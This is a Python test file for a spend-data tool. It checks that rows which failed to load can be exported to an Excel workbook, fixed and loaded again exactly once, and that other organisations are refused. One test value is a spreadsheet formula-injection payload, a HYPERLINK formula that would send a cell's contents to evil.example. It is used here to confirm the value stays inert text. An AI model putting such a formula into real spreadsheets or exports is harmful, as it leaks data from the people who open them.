"""The quarantine round trip: export the rows an upload did not load as a workbook, fix some in Excel (here
openpyxl, as a person would), upload it again: the rows now right are loaded once, the rest stay quarantined."""

from __future__ import annotations

import json
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from tests.conftest import make_workspace
from tests.web_support import csrf_of, job_outcome, signed_in
from typer.testing import CliRunner

from anchorage.cli.main import app as cli
from anchorage.core.errors import InputFileError
from anchorage.ingest.quarantine_fix import FIX_SHEET, HELP_SHEET, LINE_COL, ROW_COL, WHAT_COL
from anchorage.ingest.spend import ingest_spend
from anchorage.ingest.suppliers import ingest_suppliers
from anchorage.store.records import Upload

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
SPEND = f"""Supplier Name,Amount,Payment Date,Expense Type
Acme Builders Ltd,1000.00,05/04/2023,Repairs
Bad Amount Ltd,12O.50,06/04/2023,Repairs
"{HOSTILE.replace('"', '""')}",75.00,not a date,Catering
,300.00,08/04/2023,Catering
Green Grocers Ltd,40.00,09/04/2023,Catering
Late Payer Ltd,55.00,31/02/2023,Repairs
Broken Line Ltd,10.00,10/04/2023,Repairs,stray
"""


def _run(*args: str) -> str:
    r = CliRunner().invoke(cli, list(args))
    assert r.exit_code == 0, r.output
    return r.output


def _totals(ws, org: str = "council") -> tuple[int, Decimal]:
    with ws.warehouse(read_only=True) as con:
        row = con.execute(
            "SELECT count(*), coalesce(sum(amount), 0) FROM spend WHERE org = ?", [org]
        ).fetchone()
    return row[0], Decimal(row[1])


def _fix(src: Path, dst: Path) -> None:
    """Fix four of the five rows as a person would in Excel; leave the one with no supplier wrong."""
    book = openpyxl.load_workbook(src)
    sheet = book[FIX_SHEET]
    head = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        cells = dict(zip(head, row, strict=True))
        if cells["Supplier Name"].value == "Bad Amount Ltd":
            cells["Amount"].value = 120.5  # typed in as a number
        elif cells["Payment Date"].value == "not a date":
            cells["Payment Date"].value = "07/04/2023"
            cells["Supplier Name"].value = "Hyperlink Catering Ltd"
        elif cells["Payment Date"].value == "31/02/2023":
            cells["Payment Date"].value = "28/02/2023"
        elif (
            cells[ROW_COL].value == "line 8"
        ):  # a line the reader could not split, typed into the columns
            for column, value in zip(
                head[1:5], ["Broken Line Ltd", "10.00", "10/04/2023", "Repairs"], strict=True
            ):
                cells[column].value = value
    book.save(dst)


def test_cli_round_trip_loads_each_fixed_row_once(tmp_path):
    ws = make_workspace(tmp_path / "ws", [("Council", "council"), ("Acute Trust", "nhs-trust")])
    src = tmp_path / "council-spend.csv"
    src.write_text(SPEND)
    first = ingest_spend(ws, src, "Council")
    assert (first.rows_loaded, first.rows_quarantined) == (2, 5)
    before = _totals(ws)
    assert before == (2, Decimal("1040.00"))

    wb_path = tmp_path / "fix.xlsx"
    out = _run(
        "quarantine",
        "export",
        "--upload",
        first.upload_id,
        "--out",
        str(wb_path),
        "--workspace",
        str(ws.root),
    )
    assert "5 rows to fix" in out
    book = openpyxl.load_workbook(wb_path)
    assert book.sheetnames == [FIX_SHEET, HELP_SHEET]
    rows = list(book[FIX_SHEET].iter_rows(values_only=True))
    assert rows[0] == (
        ROW_COL,
        "Supplier Name",
        "Amount",
        "Payment Date",
        "Expense Type",
        LINE_COL,
        WHAT_COL,
    )
    assert [r[0] for r in rows[1:]] == [2, 3, 4, 6, "line 8"]  # the source rows, in file order
    assert rows[5][5] == "Broken Line Ltd,10.00,10/04/2023,Repairs,stray"
    assert rows[1][1:5] == (
        "Bad Amount Ltd",
        "12O.50",
        "06/04/2023",
        "Repairs",
    )  # the text as the file had it
    assert rows[1][6].startswith('Fix the "Amount" column: amount "12O.50" is not a number')
    hostile = book[FIX_SHEET].cell(row=3, column=2)
    assert (
        hostile.value == HOSTILE and hostile.data_type == "s" and hostile.quotePrefix
    )  # text, never a formula
    help_text = " ".join(
        str(c) for r in book[HELP_SHEET].iter_rows(values_only=True) for c in r if c
    )
    assert first.upload_id in help_text and "council" in help_text

    fixed = tmp_path / "fix-edited.xlsx"
    _fix(wb_path, fixed)
    out = _run(
        "spend", "ingest", str(fixed), "--org", "Council", "--workspace", str(ws.root), "--json"
    )
    summary = json.loads(out)
    # Read = loaded + quarantined for the fix; no warning about the original's period (never loaded).
    assert (summary["rows_read"], summary["rows_loaded"], summary["rows_quarantined"]) == (5, 4, 1)
    assert Decimal(summary["amount_loaded"]) == Decimal("260.50")
    assert not summary["warnings"]
    assert _totals(ws) == (6, Decimal("1300.50"))
    with ws.warehouse(read_only=True) as con:
        assert con.execute(
            "SELECT count(*) FROM spend WHERE org = 'council' AND supplier_name LIKE '=%'"
        ).fetchone() == (0,)

    # The same workbook again: nothing new. An edited copy: rows fixed already are not loaded again.
    again = json.loads(
        _run(
            "spend", "ingest", str(fixed), "--org", "Council", "--workspace", str(ws.root), "--json"
        )
    )
    assert again["duplicate"] and again["rows_loaded"] == 0
    book = openpyxl.load_workbook(fixed)
    book[HELP_SHEET].cell(row=1, column=1).value = "edited again"
    book.save(tmp_path / "fix-again.xlsx")
    third = ingest_spend(ws, tmp_path / "fix-again.xlsx", "Council")
    assert (third.rows_read, third.rows_loaded, third.rows_quarantined) == (1, 0, 1)
    assert _totals(ws) == (6, Decimal("1300.50"))

    # The original's quarantine now says which rows were fixed, and its next workbook holds only the one left.
    with ws.warehouse(read_only=True) as con:
        fixes = con.execute(
            "SELECT original_row_no, fix_upload_id FROM quarantine_fixes WHERE loaded ORDER BY 1"
        ).fetchall()
    assert [f[0] for f in fixes] == [-8, 2, 3, 6] and {f[1] for f in fixes} == {
        summary["upload_id"]
    }
    _run(
        "quarantine",
        "export",
        "--upload",
        first.upload_id,
        "--out",
        str(tmp_path / "left.xlsx"),
        "--workspace",
        str(ws.root),
    )
    left = list(
        openpyxl.load_workbook(tmp_path / "left.xlsx")[FIX_SHEET].iter_rows(values_only=True)
    )
    assert [r[0] for r in left[1:]] == [4]

    # Another anchor cannot use the workbook to load into the council, nor into itself.
    with pytest.raises(InputFileError, match="another anchor"):
        ingest_spend(ws, wb_path, "Acute Trust")
    assert _totals(ws, "acute-trust") == (0, Decimal(0))


def _load(web, client, location: str, **extra: str):
    """Open the preview and load with the columns it proposes (what pressing Load does); the load is a job, so
    this answers with the job's page once it has ended."""
    preview = client.get(location).text
    form = {}
    for block in preview.split("<select")[1:]:
        name, chosen = (
            re.search(r'name="(map_[^"]+)"', block),
            re.search(r'<option value="([^"]*)" selected', block),
        )
        if name and chosen and chosen.start() < block.find("</select>"):
            form[name.group(1)] = chosen.group(1)
    r = client.post(
        location + "/load",
        data={**form, **extra, "csrf_token": csrf_of(preview)},
        follow_redirects=False,
    )
    return job_outcome(web, client, r) if r.status_code == 303 else r


def test_web_round_trip_and_another_anchor_is_refused(web):
    council = signed_in(web, "analyst@council.org")
    text = SPEND.replace("Acme Builders Ltd", "Web Acme Ltd").replace("05/04/2023", "05/04/2021")
    page = council.get("/upload").text
    staged = council.post(
        "/upload",
        data={"csrf_token": csrf_of(page), "org": "council", "kind": "spend"},
        files={"file": ("web-spend.csv", text.encode(), "text/csv")},
        follow_redirects=False,
    )
    loaded = _load(web, council, staged.headers["location"], accept_warnings="yes")
    assert loaded.status_code == 200, loaded.text[:800]
    detail_url = re.search(r'href="(/uploads/[0-9a-f]+)"', loaded.text).group(1)
    assert "Download a workbook to fix these rows" in council.get(detail_url).text
    workbook = council.get(detail_url + "/fix.xlsx")
    assert workbook.status_code == 200
    trust = signed_in(web, "analyst@trust.org")
    assert trust.get(detail_url + "/fix.xlsx").status_code in (403, 404)  # not theirs to see
    fixed = Path(web.root) / "web-fix.xlsx"
    original = Path(web.root) / "web-fix-original.xlsx"
    original.write_bytes(workbook.content)
    _fix(original, fixed)

    def send(client, org: str, **extra: str):
        form = client.get("/upload").text
        r = client.post(
            "/upload",
            data={"csrf_token": csrf_of(form), "org": org, "kind": "spend"},
            files={"file": ("web-fix.xlsx", fixed.read_bytes(), "application/octet-stream")},
            follow_redirects=False,
        )
        if r.status_code != 303:
            return r
        return _load(web, client, r.headers["location"], **extra)

    before, theirs = _totals(web.ws), _totals(web.ws, "acute-trust")
    warned = send(
        council, "council"
    )  # its dates overlap the council's other file, as the original's did
    assert (
        "Stopped with a problem" in warned.text
        and "overlaps" in warned.text
        and "web-fix.xlsx:" in warned.text
    )
    assert "/tmp" not in warned.text and str(web.root) not in warned.text
    assert send(trust, "council").status_code == 403  # may not upload for the council
    refused = send(trust, "acute-trust")  # their own anchor: the workbook is the council's
    assert "Stopped with a problem" in refused.text and "another anchor" in refused.text
    assert _totals(web.ws, "acute-trust") == theirs
    done = send(council, "council", accept_warnings="yes")
    assert done.status_code == 200 and "Finished" in done.text, done.text.split("<main")[-1][:1500]
    cells = re.findall(r'<td class="num">(\d+)</td>', done.text.split('id="reconciliation"')[1])
    assert cells[:3] == ["5", "4", "1"]
    after = _totals(web.ws)
    assert after == (before[0] + 4, before[1] + Decimal("260.50"))
    assert send(council, "council", accept_warnings="yes").status_code == 200  # the same fix again
    assert _totals(web.ws) == after
    fix_id = re.search(r'href="(/uploads/[0-9a-f]+)"', done.text).group(1).rsplit("/", 1)[1]
    assert (
        f"upload {fix_id}" in council.get(detail_url).text
    )  # the original shows which rows were fixed


def test_other_kinds_refuse_a_fix_workbook_rather_than_load_its_helper_columns(tmp_path):
    ws = make_workspace(tmp_path / "ws", [("Council", "council")])
    src = tmp_path / "spend.csv"
    src.write_text(SPEND)
    first = ingest_spend(ws, src, "Council")
    _run(
        "quarantine",
        "export",
        "--upload",
        first.upload_id,
        "--out",
        str(tmp_path / "fix.xlsx"),
        "--workspace",
        str(ws.root),
    )
    with pytest.raises(InputFileError, match='fix workbook for a "spend" file'):
        ingest_suppliers(
            ws, tmp_path / "fix.xlsx", "Council"
        )  # a supplier master would be replaced by it
    with ws.session() as s:
        assert s.query(Upload).filter(Upload.filename == "fix.xlsx").count() == 0
